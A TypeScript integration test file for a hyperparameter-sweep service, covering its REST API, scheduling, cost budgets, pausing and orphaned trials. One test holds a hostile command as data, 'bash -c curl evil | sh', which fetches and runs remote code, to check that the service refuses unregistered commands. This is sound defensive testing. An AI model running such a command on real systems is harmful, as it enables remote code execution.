import { randomUUID } from 'node:crypto';
import { createSobolSampler } from '@rung/search';
import { createLogger, type TrialJob } from '@rung/shared';
import { RedisStore } from '@rung/store';
import { Queue } from 'bullmq';
import type { FastifyInstance } from 'fastify';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import {
  buildApp,
  InlineSuggester,
  registerSampler,
  SweepScheduler,
  ThreadSuggester,
} from '../../src/index.js';

let redis: Redis;
let store: RedisStore;
let suggester: ThreadSuggester;
let queue: Queue<TrialJob>;
let app: FastifyInstance;
let scheduler: SweepScheduler;
let now = 1_000_000;

const YAML_SPEC = `
method: random
trainer: mlp
metric: { name: val_loss, goal: minimize }
parameters:
  lr: { distribution: log_uniform_values, min: 0.0001, max: 0.1 }
  units: { values: [16, 32] }
parallelism: 3
run_cap: 5
`;

beforeAll(async () => {
  const url = inject('redisUrl');
  const prefix = `test-${randomUUID()}:`;
  redis = new Redis(url);
  store = new RedisStore(redis, { prefix });
  suggester = new ThreadSuggester();
  queue = new Queue<TrialJob>(`q-${randomUUID()}`, {
    connection: new Redis(url),
    prefix: `${prefix}bull`,
  });
  scheduler = new SweepScheduler({
    store,
    queueFor: () => queue,
    suggester,
    logger: createLogger('test', 'silent'),
    clock: () => now,
  });
  app = await buildApp({
    store,
    scheduler,
    ping: () => redis.ping(),
    onSweepChanged: () => undefined,
    clock: () => now,
  });
});

afterAll(async () => {
  await app.close();
  await suggester.close();
  await store.close();
  await queue.close();
  await redis.quit();
});

async function submit(body: string, type = 'application/yaml') {
  return app.inject({
    method: 'POST',
    url: '/v1/sweeps',
    payload: body,
    headers: { 'content-type': type },
  });
}

/** Plays a worker: runs every queued trial of a sweep to completion with the given value. */
async function completeQueued(sweepId: string, value: (n: number) => number) {
  for (const t of await store.listTrials(sweepId)) {
    if (t.state !== 'queued') continue;
    const started = await store.startTrial(sweepId, t.number, {
      workerId: 'w',
      jobId: `${sweepId}-${t.number}-e1`,
      now,
    });
    if (!started.ok) continue;
    await store.report(
      sweepId,
      t.number,
      started.attempt,
      { step: 1, metrics: { val_loss: value(t.number) }, at: now },
      { metric: { name: 'val_loss', goal: 'minimize' } },
    );
    await store.finishTrial(sweepId, t.number, started.attempt, {
      state: 'completed',
      value: value(t.number),
      now,
      curve: [{ step: 1, loss: value(t.number) }],
    });
  }
}

describe('REST API and scheduling loop', () => {
  it('accepts a W&B-style YAML sweep and keeps parallelism trials in flight', async () => {
    const res = await submit(YAML_SPEC);
    expect(res.statusCode).toBe(201);
    const { sweep } = res.json();
    expect(sweep.id).toMatch(/^sw-[0-9a-z]{10}$/);
    expect(sweep.sampler).toBe('random');

    await scheduler.reconcile(sweep.id);
    const trials = await store.listTrials(sweep.id);
    expect(trials.map((t) => t.state)).toEqual(['queued', 'queued', 'queued']);
    const job = await queue.getJob(`${sweep.id}-0-e1`);
    expect(job?.data).toMatchObject({ sweepId: sweep.id, number: 0, trainer: { name: 'mlp' } });
    expect(job?.data.params).toEqual(trials[0]?.params);

    // A second pass with nothing finished adds nothing, and re-adding jobs is a no-op.
    await scheduler.reconcile(sweep.id);
    expect((await store.sweepStatus(sweep.id))?.trials).toBe(3);
    expect(await queue.getJobCountByTypes('waiting')).toBe(3);

    // Finishing trials frees slots up to run_cap, then the sweep completes.
    await completeQueued(sweep.id, (n) => 1 / (n + 1));
    await scheduler.reconcile(sweep.id);
    expect((await store.sweepStatus(sweep.id))?.trials).toBe(5);
    await completeQueued(sweep.id, (n) => 1 / (n + 1));
    await scheduler.reconcile(sweep.id);
    const done = (await app.inject({ url: `/v1/sweeps/${sweep.id}` })).json();
    expect(done.state).toBe('completed');
    expect(done.stopReason).toBe('run_cap');
    expect(done.counts.completed).toBe(5);

    const board = (await app.inject({ url: `/v1/sweeps/${sweep.id}/leaderboard?limit=3` })).json();
    expect(board.trials.map((t: { number: number }) => t.number)).toEqual([4, 3, 2]);
    expect(board.trials[0].rank).toBe(1);

    const trials2 = (await app.inject({ url: `/v1/sweeps/${sweep.id}/trials` })).json().trials;
    expect(trials2).toHaveLength(5);
    expect(trials2[0].reports[0].metrics.val_loss).toBe(1);
  });

  it('answers a malformed spec with 400 naming the field', async () => {
    const res = await submit(YAML_SPEC.replace('min: 0.0001, max: 0.1', 'min: 0.1, max: 0.0001'));
    expect(res.statusCode).toBe(400);
    expect(res.json().error.code).toBe('invalid_spec');
    expect(res.json().error.message).toMatch(/^parameters\.lr\.(min|max)/);
  });

  it('answers broken YAML and broken JSON with 400, never 500', async () => {
    const yaml = await submit('method: [random\nmetric: {');
    expect(yaml.statusCode).toBe(400);
    const json = await submit('{"method": "random",', 'application/json');
    expect(json.statusCode).toBe(400);
    expect(json.json().error.code).toBe('invalid_spec');
  });

  it('refuses a Sobol sweep with more parameters than its direction numbers cover', async () => {
    const params = Array.from({ length: 65 }, (_, i) => `  p${i}: { min: 0.0, max: 1.0 }`).join(
      '\n',
    );
    const res = await submit(`method: sobol\ntrainer: mlp\nparameters:\n${params}\n`);
    expect(res.statusCode).toBe(400);
    expect(res.json().error.message).toMatch(
      /^method: sobol handles at most 64 searched parameters; this sweep has 65/,
    );
  });

  it('answers unknown sweeps with 404', async () => {
    const res = await app.inject({ url: '/v1/sweeps/sw-nope' });
    expect(res.statusCode).toBe(404);
    expect(res.json().error.code).toBe('not_found');
  });

  it('cancels a sweep and its queued trials', async () => {
    const { sweep } = (await submit(YAML_SPEC)).json();
    await scheduler.reconcile(sweep.id);
    const res = await app.inject({ method: 'POST', url: `/v1/sweeps/${sweep.id}/cancel` });
    expect(res.json()).toMatchObject({ state: 'cancelled', stopReason: 'cancelled' });
    expect(res.json().counts).toMatchObject({ queued: 0, cancelled: 3 });
    expect(await queue.getJob(`${sweep.id}-0-e1`)).toBeUndefined();
  });

  it('stops a sweep at max_duration, cancelling what is in flight', async () => {
    const { sweep } = (await submit(`${YAML_SPEC}max_duration: 60\n`)).json();
    await scheduler.reconcile(sweep.id);
    now += 61_000;
    await scheduler.reconcile(sweep.id);
    const view = await store.getSweep(sweep.id);
    expect(view).toMatchObject({ state: 'completed', stopReason: 'max_duration' });
    expect(view?.counts.cancelled).toBe(3);
  });

  it('stops a sweep once a trial reaches metric.target', async () => {
    const spec = YAML_SPEC.replace('goal: minimize }', 'goal: minimize, target: 0.6 }');
    const { sweep } = (await submit(spec)).json();
    await scheduler.reconcile(sweep.id);
    await completeQueued(sweep.id, (n) => (n === 1 ? 0.5 : 0.9));
    await scheduler.reconcile(sweep.id);
    expect(await store.getSweep(sweep.id)).toMatchObject({
      state: 'completed',
      stopReason: 'target_reached',
    });
  });

  it('runs a grid to exhaustion without repeating a combination', async () => {
    const grid = `
method: grid
trainer: mlp
parameters:
  a: { values: [1, 2, 3] }
  b: { values: [x, y] }
parallelism: 4
`;
    const { sweep } = (await submit(grid)).json();
    for (let i = 0; i < 4; i++) {
      await scheduler.reconcile(sweep.id);
      await completeQueued(sweep.id, () => 1);
    }
    await scheduler.reconcile(sweep.id);
    const trials = await store.listTrials(sweep.id);
    const combos = trials.map((t) => JSON.stringify(t.params));
    expect(new Set(combos).size).toBe(6);
    expect(trials).toHaveLength(6);
    expect((await store.getSweep(sweep.id))?.state).toBe('completed');
  });

  it('serves health, an OpenAPI document and Prometheus-free metrics 404 when disabled', async () => {
    expect((await app.inject({ url: '/healthz' })).json()).toEqual({ status: 'ok' });
    const doc = (await app.inject({ url: '/docs/json' })).json();
    expect(Object.keys(doc.paths)).toContain('/v1/sweeps/{id}/leaderboard');
    expect((await app.inject({ url: '/metrics' })).statusCode).toBe(404);
  });
});

describe('the cost of a sweep', () => {
  it('adds the GPU-hours its trials held and prices them', async () => {
    const { sweep } = (await submit(YAML_SPEC)).json();
    await scheduler.reconcile(sweep.id);
    const start = now;
    for (const number of [0, 1]) {
      const s = await store.startTrial(sweep.id, number, {
        workerId: 'w',
        jobId: `${sweep.id}-${number}-e1`,
        now: start,
        gpus: [0],
      });
      if (!s.ok) throw new Error('not started');
      await store.finishTrial(sweep.id, number, s.attempt, {
        state: 'completed',
        value: number === 0 ? 0.5 : 0.2,
        // Half a GPU for an hour, then for two.
        usage: { gpuSeconds: 1800 * (number + 1) },
        now: start + 3_600_000 * (number + 1),
      });
    }
    const res = await app.inject({ url: `/v1/sweeps/${sweep.id}/cost?gpu_price=4` });
    expect(res.statusCode).toBe(200);
    const cost = res.json();
    expect(cost).toMatchObject({ sweepId: sweep.id, trialsRun: 2, gpuHours: 1.5, cpuHours: 0 });
    expect(cost.money).toEqual({ spent: 6, saved: 0, prices: { gpuHour: 4 } });
    expect(cost.toWithin[0]).toEqual({
      percent: 1,
      wallSeconds: (start + 7_200_000 - sweep.createdAt) / 1000,
      computeHours: 1.5,
    });
    expect((await app.inject({ url: '/v1/sweeps/sw-none/cost' })).statusCode).toBe(404);
    expect((await app.inject({ url: `/v1/sweeps/${sweep.id}/cost?gpu_price=-1` })).statusCode).toBe(
      400,
    );
  });
});

describe('a sweep budget', () => {
  it('stops the sweep once its trials have used its GPU-hours, cancelling the rest', async () => {
    const { sweep } = (await submit(`${YAML_SPEC}budget: { gpu_hours: 1 }\n`)).json();
    await scheduler.reconcile(sweep.id);
    for (const number of [0, 1]) {
      const s = await store.startTrial(sweep.id, number, {
        workerId: 'w',
        jobId: `${sweep.id}-${number}-e1`,
        now,
      });
      if (!s.ok) throw new Error('not started');
      await store.finishTrial(sweep.id, number, s.attempt, {
        state: 'completed',
        value: 0.5,
        usage: { gpuSeconds: 1800 },
        now,
      });
    }
    await scheduler.reconcile(sweep.id);
    expect(await store.getSweep(sweep.id)).toMatchObject({
      state: 'completed',
      stopReason: 'budget',
      counts: { completed: 2, cancelled: 1 },
    });
  });

  it('refuses a cost budget where the cluster sets no price per GPU-hour', async () => {
    const res = await submit(`${YAML_SPEC}budget: { cost: 100 }\n`);
    expect(res.statusCode).toBe(400);
    expect(res.json().error.issues[0].path).toBe('budget.cost');
    const empty = await submit(`${YAML_SPEC}budget: {}\n`);
    expect(empty.json().error.issues[0]).toMatchObject({ path: 'budget' });
  });
});

describe('steering a running sweep', () => {
  const post = (url: string, payload?: unknown) =>
    app.inject({
      method: 'POST',
      url,
      ...(payload !== undefined && {
        payload: payload as object,
        headers: { 'content-type': 'application/json' },
      }),
    });
  const patch = (id: string, payload: unknown) =>
    app.inject({
      method: 'PATCH',
      url: `/v1/sweeps/${id}`,
      payload: JSON.stringify(payload),
      headers: { 'content-type': 'application/json' },
    });
  const start = (sweepId: string, number: number) =>
    store.startTrial(sweepId, number, { workerId: 'w', jobId: `${sweepId}-${number}`, now });

  it('pauses: queued trials are held off the queue, nothing is created; resume gives them back', async () => {
    const { sweep } = (await submit(YAML_SPEC)).json();
    await scheduler.reconcile(sweep.id);
    const paused = await post(`/v1/sweeps/${sweep.id}/pause`);
    expect(paused.statusCode).toBe(200);
    expect(paused.json()).toMatchObject({ state: 'paused', counts: { queued: 3 } });
    for (const n of [0, 1, 2]) expect(await queue.getJob(`${sweep.id}-${n}-e1`)).toBeUndefined();
    // A worker that had taken a job already is refused; the scheduler creates nothing.
    expect(await start(sweep.id, 0)).toEqual({ ok: false, state: 'held' });
    await completeQueued(sweep.id, () => 1);
    await scheduler.reconcile(sweep.id);
    expect((await store.sweepStatus(sweep.id))?.trials).toBe(3);
    // Pausing again changes nothing.
    expect((await post(`/v1/sweeps/${sweep.id}/pause`)).json().state).toBe('paused');

    const resumed = await post(`/v1/sweeps/${sweep.id}/resume`);
    expect(resumed.json()).toMatchObject({ state: 'running', counts: { queued: 3 } });
    for (const n of [0, 1, 2]) expect(await queue.getJob(`${sweep.id}-${n}-e1`)).toBeDefined();
    await completeQueued(sweep.id, () => 1);
    await scheduler.reconcile(sweep.id);
    expect((await store.sweepStatus(sweep.id))?.trials).toBe(5);
  });

  it('pauses running trials at their checkpoint when asked, and resumes them from it', async () => {
    const { sweep } = (await submit(YAML_SPEC)).json();
    await scheduler.reconcile(sweep.id);
    const started = await start(sweep.id, 0);
    if (!started.ok) throw new Error('not started');
    await store.recordCheckpoint(sweep.id, 0, started.attempt, {
      path: '/ckpt/0',
      step: 2,
      now,
    });
    const paused = await post(`/v1/sweeps/${sweep.id}/pause`, { trials: 'checkpoint' });
    expect(paused.json().counts).toMatchObject({ paused: 1, running: 0, queued: 2 });
    // The worker learns at its next report that the trial is no longer its to run.
    const outcome = await store.report(
      sweep.id,
      0,
      started.attempt,
      { step: 3, metrics: { val_loss: 0.5 }, at: now },
      { metric: { name: 'val_loss', goal: 'minimize' } },
    );
    expect(outcome.state).toBe('paused');

    await post(`/v1/sweeps/${sweep.id}/resume`);
    expect((await store.getTrial(sweep.id, 0))?.state).toBe('queued');
    expect(await queue.getJob(`${sweep.id}-0-e2`)).toBeDefined();
    const again = await start(sweep.id, 0);
    expect(again).toMatchObject({ ok: true, attempt: 2, checkpoint: { step: 2 } });
  });

  it('refuses a bad pause and a pause of an ended sweep', async () => {
    const { sweep } = (await submit(YAML_SPEC)).json();
    const bad = await post(`/v1/sweeps/${sweep.id}/pause`, { trials: 'later' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.message).toBe("trials: 'finish' or 'checkpoint'");
    await post(`/v1/sweeps/${sweep.id}/cancel`);
    const ended = await post(`/v1/sweeps/${sweep.id}/pause`);
    expect(ended.statusCode).toBe(409);
    expect(ended.json().error.message).toBe(
      `sweep ${sweep.id} is cancelled: only a running or paused sweep can be paused`,
    );
  });

  it('changes parallelism, run_cap, max_duration and the target of a running sweep', async () => {
    const { sweep } = (await submit(YAML_SPEC)).json();
    await scheduler.reconcile(sweep.id);
    const changed = await patch(sweep.id, { parallelism: 4, run_cap: 8, metric: { target: 0.01 } });
    expect(changed.statusCode).toBe(200);
    expect(changed.json().spec).toMatchObject({
      parallelism: 4,
      run_cap: 8,
      metric: { target: 0.01 },
    });
    await scheduler.reconcile(sweep.id);
    expect((await store.sweepStatus(sweep.id))?.counts.queued).toBe(4);

    // A run_cap at the trials created ends the sweep once they finish.
    await patch(sweep.id, { run_cap: 4, max_duration: 3600, metric: { target: null } });
    expect((await store.getSweep(sweep.id))?.spec).toMatchObject({
      run_cap: 4,
      max_duration: 3600,
    });
    expect((await store.getSweep(sweep.id))?.spec.metric.target).toBeUndefined();
    await completeQueued(sweep.id, () => 0.5);
    await scheduler.reconcile(sweep.id);
    expect(await store.getSweep(sweep.id)).toMatchObject({
      state: 'completed',
      stopReason: 'run_cap',
      trials: 4,
    });
    const late = await patch(sweep.id, { parallelism: 2 });
    expect(late.statusCode).toBe(409);
  });

  it('names every field of a bad change, checked against the limits as at submission', async () => {
    const { sweep } = (await submit(YAML_SPEC)).json();
    const res = await patch(sweep.id, {
      parallelism: 5000,
      run_cap: 0,
      max_duration: -1,
      method: 'grid',
      metric: { target: 'low', goal: 'maximize' },
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.issues.map((i: { path: string }) => i.path)).toEqual([
      'method',
      'parallelism',
      'run_cap',
      'max_duration',
      'metric.goal',
      'metric.target',
    ]);
    expect(res.json().error.issues[1].message).toMatch(/RUNG_MAX_PARALLELISM/);
    expect((await patch(sweep.id, {})).json().error.issues[0].message).toMatch(/nothing to change/);
    expect((await store.getSweep(sweep.id))?.spec.parallelism).toBe(3);
  });
});

describe('orphaned trials', () => {
  it('fails a running trial whose job is gone, and refills its slot', async () => {
    const { sweep } = (await submit(YAML_SPEC)).json();
    await scheduler.reconcile(sweep.id);
    const started = await store.startTrial(sweep.id, 0, {
      workerId: 'w-dead',
      jobId: `${sweep.id}-0-e1`,
      now,
    });
    expect(started.ok).toBe(true);
    await queue.remove(`${sweep.id}-0-e1`);
    // Within the grace period the trial is left alone (its job may just be changing hands).
    await scheduler.checkActiveTrials(sweep.id);
    await scheduler.reconcile(sweep.id);
    expect((await store.getTrial(sweep.id, 0))?.state).toBe('running');
    now += 31_000;
    await scheduler.checkActiveTrials(sweep.id);
    await scheduler.reconcile(sweep.id);
    const trial = await store.getTrial(sweep.id, 0);
    expect(trial?.state).toBe('failed');
    expect(trial?.error).toMatch(/job was lost/);
    // Its slot went to a new trial: three in flight again.
    const counts = (await store.getSweep(sweep.id))?.counts;
    expect((counts?.queued ?? 0) + (counts?.running ?? 0)).toBe(3);
  });
});

describe('a failing sampler', () => {
  it('does not stall the sweep: the trial gets a random point instead', async () => {
    registerSampler('sobol', () => ({
      name: 'sobol',
      suggest: () => {
        throw new Error('numerical trouble');
      },
    }));
    // A sampler registered here exists in this thread only: suggest inline.
    const inline = new SweepScheduler({
      store,
      queueFor: () => queue,
      suggester: new InlineSuggester(),
      logger: createLogger('test', 'silent'),
      clock: () => now,
    });
    try {
      const { sweep } = (await submit(YAML_SPEC.replace('method: random', 'method: sobol'))).json();
      await inline.reconcile(sweep.id);
      const trials = await store.listTrials(sweep.id);
      expect(trials.map((t) => t.state)).toEqual(['queued', 'queued', 'queued']);
      for (const t of trials) expect([16, 32]).toContain(t.params.units);
    } finally {
      registerSampler('sobol', createSobolSampler);
    }
  });
});

describe("W&B's program and command", () => {
  const worker = {
    workerId: 'w-programs',
    slots: 1,
    busy: 0,
    trainers: [
      { name: 'mlp' },
      {
        name: 'my-train',
        program: 'train.py',
        command: ['${env}', '${interpreter}', '${program}', '${args}'],
      },
      { name: 'big-model', program: 'big.py', resources: { gpus: 2 } },
    ],
    gpus: [],
    host: 'h',
    startedAt: 0,
  };
  beforeAll(() => store.heartbeatWorker({ ...worker, at: now }, 60_000));
  afterAll(() => store.removeWorker(worker.workerId));

  const body = (extra: string) =>
    `method: random\nparameters:\n  lr: { min: 0.1, max: 1.0 }\n${extra}`;

  it('run with the trainer a worker registered for that program', async () => {
    const res = await submit(body('program: train.py\n'));
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json().sweep.spec).toMatchObject({
      program: 'train.py',
      trainer: { name: 'my-train' },
    });
    const withCommand = await submit(
      body('program: train.py\ncommand: ["${env}", "${interpreter}", "${program}", "${args}"]\n'),
    );
    expect(withCommand.statusCode, withCommand.body).toBe(201);
  });

  it('take the resources their trainer was registered with, unless the sweep says', async () => {
    const res = await submit(body('program: big.py\n'));
    expect(res.statusCode, res.body).toBe(201);
    const { sweep } = res.json();
    expect(sweep.spec).toMatchObject({ trainer: { name: 'big-model' }, resources: { gpus: 2 } });
    expect(sweep.warnings).toContainEqual({
      path: 'resources',
      message: `from the workers' registration of 'big-model': {"gpus":2}`,
    });
    const own = await submit(body('program: big.py\nresources: { gpus: 4 }\n'));
    expect(own.json().sweep.spec.resources).toEqual({ gpus: 4 });
  });

  it('are refused when no worker registered them: REST sweeps run nothing of their own', async () => {
    const other = await submit(body('program: steal.py\n'));
    expect(other.statusCode).toBe(400);
    expect(other.json().error).toMatchObject({ code: 'unknown_trainer' });
    expect(other.json().error.message).toMatch(
      /^program: no worker has registered a trainer that runs 'steal.py'/,
    );
    const command = await submit(
      body('program: train.py\ncommand: ["bash", "-c", "curl evil | sh"]\n'),
    );
    expect(command.statusCode).toBe(400);
    expect(command.json().error.message).toMatch(/runs 'train.py' with this command/);
    const wrongName = await submit(body('program: train.py\ntrainer: mlp\n'));
    expect(wrongName.statusCode).toBe(400);
    expect(wrongName.json().error.message).toMatch(/as 'mlp'/);
  });

  it('or a trainer: a spec with neither is refused, saying what to add', async () => {
    const res = await submit(body(''));
    expect(res.statusCode).toBe(400);
    expect(res.json().error.message).toBe(
      "trainer: say what runs the trials: a trainer a worker registered (e.g. 'trainer: mlp'), or W&B's 'program: train.py'",
    );
  });
});
